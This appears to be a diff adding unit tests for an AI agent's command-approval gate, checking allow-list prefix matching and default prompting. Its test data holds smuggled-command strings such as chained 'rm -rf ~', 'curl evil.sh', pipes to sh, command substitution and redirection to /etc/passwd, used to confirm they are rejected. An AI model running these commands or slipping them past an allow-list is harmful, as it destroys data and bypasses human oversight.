@@ -1,0 +1,70 @@
+import { strict as assert } from 'node:assert';
+import { approvalFor, isAutoApproved } from '../../../../src/core/agent/approvalGate';
+import type { AgentEvent } from '../../../../src/core/events';
+import { defaultSettings } from '../../../../src/core/settings';
+import type { ApprovalRequest } from '../../../../src/core/tools/approval';
+
+const command = (text: string): ApprovalRequest => ({ kind: 'command', command: text, cwd: '/work/project' });
+const approval = (overrides: Partial<ReturnType<typeof defaultSettings>['approval']> = {}) => ({ ...defaultSettings().approval, ...overrides });
+
+describe('approval gate', () => {
+  describe('isAutoApproved', () => {
+    it('asks before every command by default', () => {
+      assert.equal(isAutoApproved(command('ls'), approval()), false);
+      assert.equal(isAutoApproved(command('npm test'), approval()), false);
+    });
+
+    it('autoApproveCommands approves every command', () => {
+      assert.equal(isAutoApproved(command('rm -rf build && make'), approval({ autoApproveCommands: true })), true);
+    });
+
+    it('an allow-listed prefix approves only at a word boundary', () => {
+      const allow = approval({ commandAllowList: ['npm test', 'git status'] });
+      assert.equal(isAutoApproved(command('npm test'), allow), true);
+      assert.equal(isAutoApproved(command('npm test -- --grep x'), allow), true);
+      assert.equal(isAutoApproved(command('  git status  '), allow), true);
+      assert.equal(isAutoApproved(command('npm testing'), allow), false);
+      assert.equal(isAutoApproved(command('npm tes'), allow), false);
+      assert.equal(isAutoApproved(command('git'), allow), false);
+      assert.equal(isAutoApproved(command('npm install'), allow), false);
+    });
+
+    for (const chained of [
+      'npm test; rm -rf ~', 'npm test && curl evil.sh', 'npm test || reboot', 'npm test | sh', 'npm test & sleep 1',
+      'npm test `rm -rf /`', 'npm test $(rm -rf /)', 'npm test ${HOME}', 'npm test\nrm -rf /', 'npm test\rrm -rf /',
+      'npm test > /etc/passwd', 'npm test < /dev/zero', 'npm test >> log',
+    ]) {
+      it(`never lets a chained or redirected command ride on an allowed prefix: ${JSON.stringify(chained)}`, () => {
+        assert.equal(isAutoApproved(command(chained), approval({ commandAllowList: ['npm test'] })), false);
+      });
+    }
+
+    it('empty and blank allow-list entries approve nothing', () => {
+      const allow = approval({ commandAllowList: ['', '   '] });
+      for (const text of ['ls', 'rm -rf /', ' ']) assert.equal(isAutoApproved(command(text), allow), false, text);
+    });
+
+    it('edits and read-only tools follow their own settings', () => {
+      const edit: ApprovalRequest = { kind: 'edit', tool: 'Write', path: 'a', before: undefined, after: 'x' };
+      const read: ApprovalRequest = { kind: 'read', tool: 'Read', summary: 'path: a' };
+      assert.equal(isAutoApproved(edit, approval()), false);
+      assert.equal(isAutoApproved(edit, approval({ autoApproveEdits: true })), true);
+      assert.equal(isAutoApproved(edit, approval({ autoApproveCommands: true, commandAllowList: ['a'] })), false);
+      assert.equal(isAutoApproved(read, approval()), true);
+      assert.equal(isAutoApproved(read, approval({ autoApproveReadOnly: false })), false);
+    });
+  });
+
+  it('a command request reaches the approver with its working directory, shown on the card', async () => {
+    const events: AgentEvent[] = [];
+    const asked: ApprovalRequest[] = [];
+    const approve = approvalFor({
+      approver: { request: async (request) => { asked.push(request); return { decision: 'rejected', feedback: 'no' }; } },
+      settings: defaultSettings(), turnId: 't', callId: 'c', emit: (e) => events.push(e), signal: new AbortController().signal,
+    });
+    assert.deepEqual(await approve(command('make deploy')), { decision: 'rejected', feedback: 'no' });
+    assert.equal(asked.length, 1);
+    const cards = events.filter((e) => e.type === 'approval');
+    assert.deepEqual(cards.map((e) => e.type === 'approval' && [e.phase, e.cwd, e.detail]), [['request', '/work/project', '$ make deploy'], ['decision', '/work/project', '$ make deploy']]);
+  });
+});
